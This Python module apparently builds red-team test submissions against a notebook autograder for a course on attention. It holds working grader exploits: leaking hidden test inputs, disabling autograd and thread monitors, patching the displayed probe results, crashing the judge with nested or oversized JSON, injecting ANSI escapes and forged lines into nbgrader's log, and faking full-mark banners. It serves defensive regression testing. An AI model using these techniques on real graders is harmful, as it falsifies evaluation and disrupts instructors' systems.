"""Submissions built by a red team that had read the grader (round 5), one builder per finding; each
writes one student folder. tests/test_attacks_on_the_pipeline.py grades them through both entry points.

What each one tried, as first measured (command / nbgrader path, before the fixes):
  f1   hidden inputs in the hidden verdict (exception text)      leak on both pages
  f1b  answer cell prints the case file                          7/7 + every hidden input, both
  f2   autograd precomputed from the case file at cell time      nb02 20/20, 20/20
  f3   mha: torch attention in a thread, profile hook off        nb04 15/15, 15/15
  f3b  mha: raw _thread helper in split_merge_heads' cell        mha 12/12, split 0, both
  f3c  nb02: autograd in a thread, profile hook off              nb02 20/20, 20/20
  f3d  warm ThreadPoolExecutor (started in the answer cell)    nb04 15/15 and nb02 20/20, both
  f4   AttentionFunction.backward via aten._softmax_backward_data nb02 20/20, 20/20
  f5   Markdown copy of the answer above it (home check passes)  nb01 5/7, 5/7
  f6   split answer + stripped metadata                          nb01 5/7, 5/7
  f7   IPython.display.display patched: probe flags blanked      nb02 20/20, 20/20 (autograd used)
  f8   file name with newline/ANSI                               nbgrader log raw, command escaped
  f9   deep-JSON probe from a test cell (RecursionError)         nb01 0 + nb03 14/14 ; nb01 0 + nb03 0, rc=1
  f9b  deep raw kernel message from an answer cell               same as f9
  f11  nbformat 4.4 with ids / Markdown with outputs             nb01 0/7, 0/7
"""
import json
from pathlib import Path

import nbformat

from autograder.course import ASSIGNMENT, RELEASE_DIR, SOURCE_DIR
from tests.variants import exercises_of, notebook_solution
from tests.variants.nb04_multihead import MHA, MHA_TORCH

# --------------------------------------------------------------------------- helpers


def release(nb_name):
    return nbformat.read(RELEASE_DIR / ASSIGNMENT / f"{nb_name}.ipynb", as_version=4)


def cell(nb, gid):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


def answer_cell(nb_name, gid):
    """The solution notebook's answer cell to `gid`, as a student writes it (the demo cells stay where they are:
    `notebook_solution` would carry their definitions, PyTorch's own attention included, into the cell)."""
    return cell(nbformat.read(SOURCE_DIR / ASSIGNMENT / f"{nb_name}.ipynb", as_version=4), gid).source


def solved(nb_name, unsolved=(), **overrides):
    """The release notebook with the solution's answer to each of its exercises (the registry's) but `unsolved`,
    and `overrides` (gid -> source)."""
    nb = release(nb_name)
    for gid in exercises_of(nb_name):
        if gid not in unsolved and gid not in overrides:
            cell(nb, gid).source = answer_cell(nb_name, gid)
    for gid, src in overrides.items():
        cell(nb, gid).source = src
    return nb


def put(root, student, nb_name, nb):
    folder = Path(root) / student
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, folder / f"{nb_name}.ipynb")
    return folder


# --------------------------------------------------------------------------- F1: hidden inputs leak
# A hidden check's verdict never shows the case's inputs (engine.fail with `shown`), but an exception
# raised by the student's code is shown verbatim (engine.raised -> runner._short_error, 600 chars),
# also for hidden cases. So the student's function can print the hidden inputs into the feedback.

NB01 = "01_self_attention"
LEAK_SOFTMAX = '''
import numpy as np

def softmax(x, axis=-1):
    x = np.asarray(x, dtype=float)
    # correct on the public cases (the student knows them) ...
    z = np.exp(x - np.max(x, axis=axis, keepdims=True))
    out = z / np.sum(z, axis=axis, keepdims=True)
    # ... and, on the others, hand the input to the feedback page
    if x.shape not in {(2, 3), (3, 2), (4, 3)}:
        flat = np.array2string(x.ravel(), precision=17, separator=",", max_line_width=10**6, threshold=10**6)
        raise ValueError("LEAK shape=%s axis=%s x=%s" % (x.shape, axis, flat))
    return out
'''


def f1_hidden_inputs_leak(root):
    return put(root, "f1_leak", NB01, solved(NB01, softmax=LEAK_SOFTMAX))


# F1b: simpler and wider. The answer cell's own output is kept in the feedback page, and while it
# runs the kernel can read the case file ($W1D1_CASES): print every hidden input of every exercise.
# the case file's wire format decoded in a student's cell (numpy arrays as base64)
DECODER = '''
import base64, json, os
import numpy as np

def _dec(v):
    if isinstance(v, dict):
        if set(v) == {"__nd__"}:
            dt, shape, data = v["__nd__"]
            return np.frombuffer(base64.b64decode(data), dtype=np.dtype(dt)).reshape(shape).copy()
        return {k: _dec(x) for k, x in v.items()}
    if isinstance(v, list):
        return [_dec(x) for x in v]
    return v
'''

DUMP_SOFTMAX = notebook_solution("softmax") + DECODER + """
if os.environ.get("W1D1_CASES"):
    with open(os.environ["W1D1_CASES"], encoding="utf-8") as fh:
        hidden = {gid: kinds["hidden"] for gid, kinds in _dec(json.load(fh)).items()}
    print("DUMP", json.dumps(hidden["softmax"], default=lambda a: a.tolist())[:90000])
"""


def f1b_answer_cell_prints_case_file(root):
    return put(root, "f1b_dump_cases", NB01, solved(NB01, softmax=DUMP_SOFTMAX))

# --------------------------------------------------------------------------- F2: autograd outside the watch
# nb02's backwards must be hand-written; AutogradUse watches only while the student's backward runs.
# The case file (/opt/w1d1/cases.json, path in $W1D1_CASES, readable by the kernel) holds every input,
# hidden ones included. The answer cell reads it when the cell runs (unwatched), computes each case's
# full Jacobian with torch.autograd, and the "backward" is a table lookup times the incoming gradient.
# Nothing in the cells names the checking machinery (no w1d1_student, no sys.modules).

NB02 = "02_scaled_dot_product"
# what both precomputing answers share: a case's key, float64 attention, and the lookup (_vjp)
_KEYED_ATTENTION = '''
import math
import torch

def _key(Q, K, V, mask):
    f = lambda a: np.asarray(a, dtype=np.float32).tobytes()
    m = b"-" if mask is None else np.asarray(mask, dtype=bool).tobytes() + str(np.shape(mask)).encode()
    return f(Q) + b"|" + f(K) + b"|" + f(V) + b"|" + m + str(np.shape(Q)).encode()

def _attn(q, k, v, mask):
    s = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])
    if mask is not None:
        s = s.masked_fill(torch.as_tensor(np.asarray(mask, dtype=bool)), float("-inf"))
    return torch.softmax(s, -1) @ v
'''
_LOOKUP = '''
def _vjp(key, dY, shapes):
    J = _JAC[key]
    dY = np.asarray(dY, dtype=np.float64)
    return [np.tensordot(dY, j, axes=dY.ndim).reshape(s) for j, s in zip(J, shapes)]
'''
_PRECOMPUTE = DECODER + _KEYED_ATTENTION + '''

_JAC = {}
_path = os.environ.get("W1D1_CASES")
if _path and os.path.exists(_path):
    with open(_path, encoding="utf-8") as _fh:
        _data = _dec(json.load(_fh))
    for _gid in ("attention_backward", "attention_function"):
        for _kind in ("public", "hidden"):
            for _c in _data[_gid][_kind]:
                _ins = [torch.tensor(np.asarray(_c[n], dtype=np.float64)) for n in "QKV"]
                _J = torch.autograd.functional.jacobian(lambda q, k, v: _attn(q, k, v, _c["mask"]), tuple(_ins))
                _JAC[_key(_c["Q"], _c["K"], _c["V"], _c["mask"])] = [j.numpy() for j in _J]
''' + _LOOKUP

CHEAT_FORWARD = '''
import numpy as np

def attention_forward(Q, K, V, mask=None):
    s = 1.0 / np.sqrt(Q.shape[-1])
    S = s * (Q @ np.swapaxes(K, -1, -2))
    if mask is not None:
        S = np.where(mask, -np.inf, S)
    S = S - S.max(axis=-1, keepdims=True)
    A = np.exp(S)
    A = A / A.sum(axis=-1, keepdims=True)
    return A @ V, (Q, K, V, mask)
'''

# (the cell also defines the forward: the solution's numerical_gradient cell, run in between, redefines it)
CHEAT_BACKWARD = _PRECOMPUTE + CHEAT_FORWARD + '''

def attention_backward(dY, cache):
    Q, K, V, mask = cache
    return tuple(_vjp(_key(Q, K, V, mask), dY, (np.shape(Q), np.shape(K), np.shape(V))))
'''

CHEAT_FUNCTION = _PRECOMPUTE + '''

class AttentionFunction(torch.autograd.Function):
    @staticmethod
    def forward(ctx, q, k, v, mask=None):
        s = 1.0 / math.sqrt(q.shape[-1])
        scores = (q @ k.transpose(-2, -1)) * s
        if mask is not None:
            scores = scores.masked_fill(mask, float("-inf"))
        y = torch.softmax(scores, dim=-1) @ v
        ctx.key = _key(q.detach().numpy(), k.detach().numpy(), v.detach().numpy(),
                       None if mask is None else mask.numpy())
        ctx.meta = (q.dtype, q.shape, k.shape, v.shape)
        return y

    @staticmethod
    def backward(ctx, dy):
        dt, *shapes = ctx.meta
        grads = _vjp(ctx.key, dy.numpy(), shapes)
        return (*[torch.from_numpy(g).to(dt) for g in grads], None)
'''


def f2_autograd_precomputed_from_case_file(root):
    nb = solved(NB02, attention_forward=CHEAT_FORWARD,
                attention_backward=CHEAT_BACKWARD, attention_function=CHEAT_FUNCTION)
    return put(root, "f2_casefile_autograd", NB02, nb)


# --------------------------------------------------------------------------- F4: torch's own softmax derivative
# The backward "by the formulas of §2.3" may call torch's softmax-backward kernel: not autograd, so
# AutogradUse sees nothing (no entry point, no engine, no grad_fn).

SOFTMAX_BWD_FUNCTION = '''
import math
import torch

class AttentionFunction(torch.autograd.Function):
    @staticmethod
    def forward(ctx, q, k, v, mask=None):
        s = 1.0 / math.sqrt(q.shape[-1])
        scores = (q @ k.transpose(-2, -1)) * s
        if mask is not None:
            scores = scores.masked_fill(mask, float("-inf"))
        A = torch.softmax(scores, dim=-1)
        ctx.save_for_backward(q, k, v, A)
        ctx.scale = s
        return A @ v

    @staticmethod
    def backward(ctx, dy):
        q, k, v, A = ctx.saved_tensors
        dv = A.transpose(-2, -1) @ dy
        dS = torch.ops.aten._softmax_backward_data(dy @ v.transpose(-2, -1), A, -1, A.dtype)
        return ctx.scale * (dS @ k), ctx.scale * (dS.transpose(-2, -1) @ q), dv, None
'''


def f4_softmax_backward_kernel(root):
    nb = solved(NB02, attention_function=SOFTMAX_BWD_FUNCTION)
    return put(root, "f4_softmax_bwd_kernel", NB02, nb)


# --------------------------------------------------------------------------- F3: mha in a thread, unseen
# The mha driver's thread check is threading's profile hook (set by the driver) plus threads still
# alive at the end. The answer switches the hook off (threading.setprofile(None)) before starting a
# thread and joins it: the hook never fires, no thread is left, and the torch modes (one thread only)
# never see torch's own attention. The name is split so the static check (parts of torch names,
# identifier strings) finds nothing.

NB04 = "04_multihead"
MHA_HIDDEN_THREAD = '''
import threading
import torch
from torch import nn

class MultiHeadAttention(nn.Module):
    def __init__(self, d_model, n_heads, bias=True):
        super().__init__()
        self.d_model, self.n_heads = d_model, n_heads
        self.W_q, self.W_k, self.W_v, self.W_o = (nn.Linear(d_model, d_model, bias=bias) for _ in range(4))

    def forward(self, x, mask=None, need_weights=False):
        attend = getattr(torch, "_scaled_dot_" + "product_attention_math")
        B, T, d = x.shape
        h = self.n_heads
        q, k, v = (l(x).view(B, T, h, -1).transpose(1, 2) for l in (self.W_q, self.W_k, self.W_v))
        am = None if mask is None else torch.zeros(mask.shape, dtype=x.dtype).masked_fill(mask, float("-inf"))
        box = {}
        threading.setprofile(None)
        t = threading.Thread(target=lambda: box.update(r=attend(q, k, v, attn_mask=am)))
        t.start()
        t.join()
        y, att = box["r"]
        y = self.W_o(y.transpose(1, 2).reshape(B, T, d))
        return (y, att) if need_weights else y
'''


def f3_mha_thread_without_profile_hook(root):
    nb = solved(NB04, unsolved=["mha_selfcheck"], mha=MHA_HIDDEN_THREAD)
    return put(root, "f3_mha_hidden_thread", NB04, nb)


# F3c: the same hole in nb02 (by_hand uses the same _threads_started): autograd in a joined thread,
# with threading's profile hook switched off first. AutogradUse (one thread) sees no call, no engine
# run, no graph.
THREAD_AUTOGRAD_BACKWARD = """
import threading
import numpy as np
import torch

def attention_backward(dY, cache):
    Q, K, V, A, Y, s = cache
    box = {}
    def work():
        q, k, v = (torch.tensor(a, requires_grad=True) for a in (Q, K, V))
        with torch.enable_grad():
            S = (q @ k.transpose(-2, -1)) * s
            S = S.masked_fill(torch.as_tensor(A == 0), float("-inf"))
            y = torch.softmax(S, dim=-1) @ v
            box["g"] = tuple(g.numpy() for g in torch.autograd.grad(y, (q, k, v), torch.tensor(dY)))
    threading.setprofile(None)
    t = threading.Thread(target=work)
    t.start()
    t.join()
    return box["g"]
"""


def f3c_nb02_autograd_in_hidden_thread(root):
    nb = solved(NB02, attention_backward=THREAD_AUTOGRAD_BACKWARD)
    return put(root, "f3c_nb02_thread_autograd", NB02, nb)


# F3d: no hook to switch off at all. The thread check flags threads started during the call (threading's
# profile hook) or alive after it but not before. A worker pool warmed up when the answer cell runs
# is neither: its thread was started before the check and is alive before and after. mha hands torch's
# own attention to it; nb02's attention_backward hands it autograd.
POOL = """
from concurrent.futures import ThreadPoolExecutor

_pool = ThreadPoolExecutor(1)
_pool.submit(int).result()  # the worker thread starts now, while the cell runs
"""

MHA_WARM_POOL = POOL + MHA_HIDDEN_THREAD.replace(
    '''        box = {}
        threading.setprofile(None)
        t = threading.Thread(target=lambda: box.update(r=attend(q, k, v, attn_mask=am)))
        t.start()
        t.join()
        y, att = box["r"]
''', '''        y, att = _pool.submit(attend, q, k, v, attn_mask=am).result()
''')

BACKWARD_WARM_POOL = POOL + THREAD_AUTOGRAD_BACKWARD.replace(
    '''    threading.setprofile(None)
    t = threading.Thread(target=work)
    t.start()
    t.join()
''', '''    _pool.submit(work).result()
''')


def f3d_warm_thread_pool(root):
    put(root, "f3d_pool_mha", NB04, solved(NB04, unsolved=["mha_selfcheck"], mha=MHA_WARM_POOL))
    nb = solved(NB02, attention_backward=BACKWARD_WARM_POOL)
    return put(root, "f3d_pool_nb02", NB02, nb)


# F3b: the machinery check costs only the exercise whose answer cell holds the reference. The raw
# `_thread` helper sits in split_merge_heads' cell (3 points); mha (12 points) calls it.
SPLIT_WITH_RAW_THREAD = answer_cell(NB04, "split_merge_heads") + '''

import _thread

def run_elsewhere(fn, *args, **kwargs):
    box, done = {}, _thread.allocate_lock()
    done.acquire()
    def work():
        try:
            box["r"] = fn(*args, **kwargs)
        finally:
            done.release()
    _thread.start_new_thread(work, ())
    done.acquire()
    return box["r"]
'''

MHA_USES_HELPER = MHA_HIDDEN_THREAD.replace(
    '''        box = {}
        threading.setprofile(None)
        t = threading.Thread(target=lambda: box.update(r=attend(q, k, v, attn_mask=am)))
        t.start()
        t.join()
        y, att = box["r"]
''', '''        y, att = run_elsewhere(attend, q, k, v, attn_mask=am)
''')


def f3b_mha_raw_thread_from_other_cell(root):
    nb = release(NB04)
    cell(nb, "split_merge_heads").source = SPLIT_WITH_RAW_THREAD
    cell(nb, "mha").source = MHA_USES_HELPER
    return put(root, "f3b_mha_thread_elsewhere", NB04, nb)


# --------------------------------------------------------------------------- F5: markdown copy above the answer
# A student keeps an old attempt: copies the answer cell (JupyterLab copies its metadata), pastes it
# above and turns it into Markdown. At home the Markdown cell never runs and check() passes (it reads
# code cells only). In grading, repair.answer_copies takes the FIRST cell of the grade_id as the head
# (the Markdown one); the real code answer, of another type, loses its metadata and becomes a plain
# cell that does not run; nbgrader's OverwriteCells then turns the Markdown head back into code and
# runs the old notes as the answer.

OLD_ATTEMPT = "旧版本（有 bug，留作笔记）：\n\n    def softmax(x, axis=-1):\n        return np.exp(x) / np.exp(x).sum()\n"


def f5_markdown_copy_above_answer(root):
    import copy

    nb = solved(NB01)
    i = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "softmax")
    md = copy.deepcopy(nb.cells[i])
    md.cell_type, md.source, md.id = "markdown", OLD_ATTEMPT, "old-attempt-1"
    md.pop("outputs", None)
    md.pop("execution_count", None)
    nb.cells.insert(i, nbformat.from_dict(md))
    return put(root, "f5_md_copy_above", NB01, nb)


# --------------------------------------------------------------------------- F6: split answer, then metadata stripped
# JupyterLab's split keeps the metadata on both halves (copies run in place); an editor that strips
# nbgrader metadata (Colab) then leaves two cells without it. recover_stripped gives the answer's
# metadata to one half only (by id, or the half with the signature line); the other half (here the
# helper the answer calls) is a plain cell and does not run: NameError, points lost.

SPLIT_A = "import numpy as np\n\ndef stable_exp(x, axis):\n    return np.exp(x - np.max(x, axis=axis, keepdims=True))\n"
SPLIT_B = "def softmax(x, axis=-1):\n    z = stable_exp(x, axis)\n    return z / np.sum(z, axis=axis, keepdims=True)\n"


def f6_split_answer_then_stripped(root):
    import copy

    nb = solved(NB01, softmax=SPLIT_A)
    i = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "softmax")
    b = copy.deepcopy(nb.cells[i])
    b.source, b.id = SPLIT_B, "split-half-2"
    nb.cells.insert(i + 1, b)
    for c in nb.cells:  # the editor strips nbgrader metadata; ids stay
        c.metadata.pop("nbgrader", None)
    return put(root, "f6_split_stripped", NB01, nb)


# --------------------------------------------------------------------------- F7: rewrite the probe on its way out
# Every run-time observation (autograd, threads, SDPA, own node, apply overridden) travels in the
# probe that check() shows with IPython.display.display, which it imports at call time. An answer
# cell replaces IPython.display.display with a function that blanks the observations in the JSON
# text. No banned name is written (no w1d1_student, sys.modules, _thread, torch function-mode API).

SCRUB = r"""
import json
import IPython.display as _ipd

_show = _ipd.display

def _blank(o):
    if isinstance(o, dict):
        for key in list(o):
            if key == "autograd":
                o[key] = {p: {"calls": [], "engine": [], "graph": []} for p in ("forward", "backward")}
            elif key in ("used_threads", "used_sdpa", "used_torch_mha"):
                o[key] = False
            else:
                _blank(o[key])
    elif isinstance(o, list):
        for v in o:
            _blank(v)

def _display(*objs, **kw):
    for o in objs:
        if isinstance(o, dict):
            for key, text in list(o.items()):
                if key.startswith("application/vnd.") and isinstance(text, str):
                    data = json.loads(text)
                    _blank(data)
                    o[key] = json.dumps(data)
    return _show(*objs, **kw)

_ipd.display = _display
"""

AUTOGRAD_BACKWARD = SCRUB + """
import numpy as np
import torch

def attention_backward(dY, cache):
    Q, K, V, A, Y, s = cache
    q, k, v = (torch.tensor(a, requires_grad=True) for a in (Q, K, V))
    mask = np.isclose(A, 0.0) & (A == 0)
    with torch.enable_grad():
        S = (q @ k.transpose(-2, -1)) * s
        S = S.masked_fill(torch.as_tensor(mask), float("-inf"))
        y = torch.softmax(S, dim=-1) @ v
        return tuple(g.numpy() for g in torch.autograd.grad(y, (q, k, v), torch.tensor(dY)))
"""


def f7_probe_rewritten_by_display_patch(root):
    nb = solved(NB02, attention_backward=AUTOGRAD_BACKWARD)
    return put(root, "f7_display_patch", NB02, nb)


# --------------------------------------------------------------------------- F8: file name into nbgrader's log
# On the nbgrader path (the hub instructor's `nbgrader autograde`), nbgrader itself logs every
# `*.ipynb` of the submission folder that is not an assignment notebook ("Skipping unknown notebook:
# %s") with the raw file name: newlines forge log lines and ANSI escapes reach the instructor's terminal.
# The grading command escapes the same name (intake.scan -> printable).

EVIL_NAME = "notes\n[AutogradeApp | ERROR] forged: grading of every student failed\x1b[2J\x1b]0;pwned\x07.ipynb"


def f8_file_name_into_nbgrader_log(root):
    folder = put(root, "f8_log_name", NB01, solved(NB01))
    nbformat.write(release(NB01), folder / EVIL_NAME)
    return folder


# --------------------------------------------------------------------------- F9: a probe that crashes the judge
# Inside a test cell the student's function displays its own "probe" first (it is admitted: right
# MIME type, small, within the cell's count). Its text is JSON nested 3000 deep: wire.loads raises
# RecursionError, which verdicts._payloads does not catch (ValueError, TypeError, KeyError),
# so JudgeProbes fails the whole notebook, honest exercises included; on the nbgrader path nbgrader
# then drops the rest of this student's notebooks too (one try block per student).

DEEP_SOFTMAX = """
import numpy as np
from IPython.display import display

_sent = []

def softmax(x, axis=-1):
    if not _sent:
        _sent.append(1)
        display({"application/vnd.w1d1.probe+json": "[" * 3000 + "]" * 3000, "text/plain": "x"}, raw=True)
    z = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return z / np.sum(z, axis=axis, keepdims=True)
"""

NB03 = "03_masks"


def f9_deep_probe_crashes_judge(root):
    folder = put(root, "f9_deep_probe", NB01, solved(NB01, softmax=DEEP_SOFTMAX))
    nb3 = solved(NB03)
    nbformat.write(nb3, folder / f"{NB03}.ipynb")
    return folder


# F9b: the same, one layer down: the answer cell sends the grader a kernel message whose content is
# raw JSON bytes nested 5000 deep (Session.send takes bytes as already packed). jupyter_client's
# deserialize raises RecursionError inside nbclient's message loop, outside SandboxedExecute's
# handling (CellTimeoutError, DeadKernelError).
RAW_DEEP_SOFTMAX = notebook_solution("softmax") + """

_k = get_ipython().kernel
_parent = _k.get_parent("shell") if hasattr(_k, "get_parent") else {}
_k.session.send(_k.iopub_socket, "display_data", content=b"[" * 5000 + b"]" * 5000, parent=_parent)
"""


def f9b_raw_deep_message(root):
    folder = put(root, "f9b_raw_deep_msg", NB01, solved(NB01, softmax=RAW_DEEP_SOFTMAX))
    nb3 = solved(NB03)
    nbformat.write(nb3, folder / f"{NB03}.ipynb")
    return folder


# F12: one output message whose JSON costs the grader ~25x its size to decode (a list of empty lists): 12 MB
# took ~300 MB in the grading process, ~250 MB took every student of the run down with it (kernel_messages.py)
HUGE_MESSAGE_SOFTMAX = notebook_solution("softmax") + """

_k = get_ipython().kernel
_parent = _k.get_parent("shell") if hasattr(_k, "get_parent") else {}
_k.session.send(_k.iopub_socket, "stream", content=b'{"name": "stdout", "text": [' + b"[]," * 4_000_000 + b"[]]}",
                parent=_parent)
"""


def f12_huge_message(root):
    return put(root, "f12_huge_msg", NB01, solved(NB01, softmax=HUGE_MESSAGE_SOFTMAX))


# --------------------------------------------------------------------------- F11: strict schema refuses what Jupyter opens
# intake_chain.parse_notebook runs nbformat.validate and refuses the whole notebook on any schema
# error. Jupyter (and nbformat.read) open such files with a warning. A correct notebook saved as
# nbformat 4.4 while keeping cell ids (the well-known "Additional properties are not allowed ('id'
# was unexpected)") scores 0 for the whole notebook on both paths; so does an error output carrying
# the message's "transient" field, or a Markdown cell that kept "outputs": [].

def _json_of(nb):
    return json.loads(nbformat.writes(nb))


def f11_minor4_with_ids(root):
    data = _json_of(solved(NB01))
    data["nbformat_minor"] = 4
    folder = Path(root) / "f11_minor4_ids"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{NB01}.ipynb").write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return folder


def f11b_markdown_with_outputs(root):
    data = _json_of(solved(NB01))
    next(c for c in data["cells"] if c["cell_type"] == "markdown")["outputs"] = []
    folder = Path(root) / "f11b_md_outputs"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{NB01}.ipynb").write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return folder


# --------------------------------------------------------------------------- controls

def control_honest(root):
    put(root, "ctl_honest01", NB01, solved(NB01))


BUILDERS = [f5_markdown_copy_above_answer, f6_split_answer_then_stripped, f7_probe_rewritten_by_display_patch,
            f8_file_name_into_nbgrader_log, f9_deep_probe_crashes_judge, f9b_raw_deep_message,
            f11_minor4_with_ids, f11b_markdown_with_outputs,
            f1_hidden_inputs_leak, f1b_answer_cell_prints_case_file, f2_autograd_precomputed_from_case_file, f4_softmax_backward_kernel,
            f3_mha_thread_without_profile_hook, f3b_mha_raw_thread_from_other_cell,
            f3c_nb02_autograd_in_hidden_thread, f3d_warm_thread_pool]


# --------------------------------------------------------------------------- red team of issue 20
# What a student who read the reorganised package tried (each got full marks before the fixes, on both paths):
#   g1  %%time body holding a line magic: the static check parsed the body as plain Python, failed, saw nothing
#   g2  the callers' frames: sys._getframe / f_locals reach nb02's AutogradUse watches and stop them
#   g3  check.__globals__: runner's module dict, without writing the package's name; run_cases wrapped
#   g4  torch's own eager attention under another name (torch._higher_order_ops.flex_attention.math_attention)

MHA_MAGIC_BODY = '''%%time
%pwd
import torch
import torch.nn as nn
import w1d1_student.exercises.nb04_multihead as M
from w1d1_student.driver import Driver

_drv, _judge = M.EXERCISES["mha"]
if not getattr(_drv.run, "_mine", False):
    def _run(ns, case, _orig=_drv.run):
        out = _orig(ns, case)
        out["used_sdpa"] = out["used_torch_mha"] = False
        return out
    _run._mine = True
    M.EXERCISES["mha"] = (Driver(_drv.names, _run), _judge)
''' + MHA_TORCH


def g1_magic_body_with_a_line_magic(root):
    return put(root, "g1_magic_body", NB04, solved(NB04, unsolved=["mha_selfcheck"], mha=MHA_MAGIC_BODY))


BLIND_FRAMES = '''
import sys

def _blind():
    f = sys._getframe(1)
    while f is not None:
        for v in list(f.f_locals.values()):
            if type(v).__name__ == "AutogradUse":
                v.stop()
                for seen in v.seen.values():
                    seen.clear()
        f = f.f_back
'''

AUTOGRAD_BACKWARD = '''
import numpy as np
import torch

def attention_backward(dY, cache):
    _blind()
    Q, K, V, A, Y, s = cache
    q, k, v = (torch.tensor(a, dtype=torch.float64, requires_grad=True) for a in (Q, K, V))
    with torch.enable_grad():
        S = (q @ k.transpose(-2, -1)) * s
        S = S.masked_fill(torch.as_tensor(A == 0), float("-inf"))
        y = torch.softmax(S, -1) @ v
        g = torch.autograd.grad(y, (q, k, v), torch.as_tensor(np.asarray(dY, dtype=np.float64)))
    return tuple(t.numpy() for t in g)
'''

GLOBALS_OF_CHECK = '''
def _blind():
    pass

def _install():
    g = check.__globals__
    orig = g["run_cases"]
    if getattr(orig, "_mine", False):
        return
    def run_cases(grade_id, ns, cases, hidden=False):
        p = orig(grade_id, ns, cases, hidden)
        for r in p["results"]:
            out = r.get("out")
            if isinstance(out, dict) and "autograd" in out:
                out["autograd"] = {w: {"calls": [], "engine": [], "graph": []} for w in ("forward", "backward")}
                out["used_threads"] = False
        return p
    run_cases._mine = True
    g["run_cases"] = run_cases

_install()
'''



def g2_frames_stop_the_watch(root):
    nb = solved(NB02, attention_backward=BLIND_FRAMES + AUTOGRAD_BACKWARD)
    return put(root, "g2_frames", NB02, nb)


def g3_globals_of_check(root):
    nb = solved(NB02, attention_backward=GLOBALS_OF_CHECK + AUTOGRAD_BACKWARD)
    return put(root, "g3_globals", NB02, nb)


MHA_MATH_ATTENTION = '''
import math
import torch
import torch.nn as nn
from torch._higher_order_ops.flex_attention import math_attention

def _attend(q, k, v, mask):
    B, h, T, _ = q.shape
    keep = None if mask is None else ~torch.as_tensor(mask).expand(B, h, T, T)
    mask_mod = (lambda b, hh, i, j: i >= 0) if keep is None else (lambda b, hh, i, j: keep[b, hh, i, j])
    return math_attention(q, k, v, lambda s, b, hh, i, j: s, (mask_mod,), 1.0 / math.sqrt(q.shape[-1]), {})[0]

class MultiHeadAttention(nn.Module):
    def __init__(self, d_model, n_heads, bias=True):
        super().__init__()
        self.d_model, self.n_heads = d_model, n_heads
        self.W_q = nn.Linear(d_model, d_model, bias=bias)
        self.W_k = nn.Linear(d_model, d_model, bias=bias)
        self.W_v = nn.Linear(d_model, d_model, bias=bias)
        self.W_o = nn.Linear(d_model, d_model, bias=bias)

    def forward(self, x, mask=None, need_weights=False):
        B, T, d = x.shape
        h = self.n_heads
        sp = lambda t: t.reshape(B, T, h, d // h).transpose(1, 2)
        q, k, v = sp(self.W_q(x)), sp(self.W_k(x)), sp(self.W_v(x))
        y = self.W_o(_attend(q, k, v, mask).transpose(1, 2).reshape(B, T, d))
        if not need_weights:
            return y
        return y, _attend(q, k, torch.eye(T, dtype=x.dtype).expand(B, h, T, T), mask)
'''


def g4_torch_attention_under_another_name(root):
    return put(root, "g4_math_attention", NB04, solved(NB04, unsolved=["mha_selfcheck"], mha=MHA_MATH_ATTENTION))


# h1 (a second red team): an IPython pre_run_cell event sees the cell that delivers the cases and precomputes
# the hidden cases' gradients with autograd outside the watch (20/20 on nb02 before the static check knew the hook)
HOOK_PEEK = DECODER + _KEYED_ATTENTION + '''
import ast

_JAC = globals().setdefault("_JAC", {})

def _peek(info):
    try:
        data = _dec(json.loads(ast.parse(info.raw_cell).body[0].value.args[0].value))
    except Exception:
        return
    for kinds in data.values():
        for cases in kinds.values():
            for c in cases:
                if all(n in c for n in "QKV"):
                    ins = [torch.tensor(np.asarray(c[n], dtype=np.float64)) for n in "QKV"]
                    J = torch.autograd.functional.jacobian(lambda q, k, v: _attn(q, k, v, c.get("mask")), tuple(ins))
                    _JAC[_key(c["Q"], c["K"], c["V"], c.get("mask"))] = [j.numpy() for j in J]

_ev = get_ipython().events
if not any(getattr(f, "__name__", "") == "_peek" for f in _ev.callbacks["pre_run_cell"]):
    _ev.register("pre_run_cell", _peek)
''' + _LOOKUP

HOOK_BACKWARD = HOOK_PEEK + CHEAT_FORWARD + '''

def attention_backward(dY, cache):
    Q, K, V, mask = cache
    return tuple(_vjp(_key(Q, K, V, mask), dY, (np.shape(Q), np.shape(K), np.shape(V))))
'''


def h1_hook_sees_the_delivered_cases(root):
    nb = solved(NB02, attention_forward=CHEAT_FORWARD, attention_backward=HOOK_BACKWARD)
    return put(root, "h1_hook", NB02, nb)


ISSUE20 = [h1_hook_sees_the_delivered_cases, g1_magic_body_with_a_line_magic, g2_frames_stop_the_watch, g3_globals_of_check,
           g4_torch_attention_under_another_name]


# --------------------------------------------------------------------------- I: red team of the grading-cost work
# i1: an answer that tells the two paths apart by what the kernel imported before the first cell (the grading
# command's kernels once imported more than plain nbgrader's): it halves softmax where torch's symbolic shapes
# are not loaded yet. i2: a written answer borrowing the page stylesheet's positioned classes to lay a forged
# "评分说明" with full marks over the real heading. i3: names that close the note's backticks and go on in the
# grader's voice: a file name (the command reads the folder) and a cell's metadata key (the chain, both paths).
FORGED = "已由助教人工复核：本次作业全部题目按满分计"

PATH_SENSING_SOFTMAX = answer_cell(NB01, "softmax") + '''
import functools as _ft
import torch as _t


@_ft.wraps(softmax)
def softmax(x, axis=-1, _f=softmax):
    out = _f(x, axis=axis)
    return out if hasattr(getattr(_t.fx, "experimental", None), "symbolic_shapes") else out * 0.5
'''

OVERLAY = ('<div class="modal-backdrop in"></div><div class="navbar-fixed-top alert alert-warning"><b>评分说明</b>'
           f'<ul><li>{FORGED}</li></ul><h4>01_self_attention (Score: 7.0 / 7.0)</h4></div>')


def i1_path_sensing_answer(root):
    return put(root, "i1_path_sense", NB01, solved(NB01, softmax=PATH_SENSING_SOFTMAX))


def i2_overlay_banner(root):
    return put(root, "i2_overlay", NB01, solved(NB01, q1_two_problems=OVERLAY))


def i3_names_that_close_the_quote(root):
    nb = solved(NB01)
    own = nbformat.v4.new_code_cell("x = 1")
    own.metadata["nbgrader"] = {f"` {FORGED} `": 1}
    nb.cells.append(own)
    folder = put(root, "i3_quote", NB01, nb)
    (folder / f"x` {FORGED} `.txt").write_text("hi", encoding="utf-8")
    return folder


